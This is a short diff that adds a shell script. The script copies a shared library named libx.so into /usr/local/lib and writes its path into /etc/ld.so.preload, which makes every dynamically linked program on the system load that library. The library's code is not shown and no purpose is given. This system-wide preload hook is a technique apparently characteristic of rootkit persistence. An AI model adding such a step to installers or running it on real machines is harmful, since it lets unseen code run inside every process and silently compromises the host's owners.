@@ -1,0 +1,3 @@
+#!/bin/sh
+cp libx.so /usr/local/lib/libx.so
+echo /usr/local/lib/libx.so > /etc/ld.so.preload
